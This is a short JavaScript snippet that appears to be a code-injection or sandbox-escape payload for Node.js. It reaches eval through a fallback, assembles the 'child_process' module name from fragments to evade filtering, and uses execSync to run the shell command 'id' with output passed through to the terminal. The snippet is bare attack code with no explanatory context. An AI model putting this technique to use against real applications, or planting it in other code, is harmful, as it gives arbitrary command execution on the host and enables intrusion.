const run = globalThis.rt3Missing ?? eval;
const mod = "child_" + "process";
run(`process.mainModule.require("${mod}").execSync("id", {stdio: "inherit"})`);
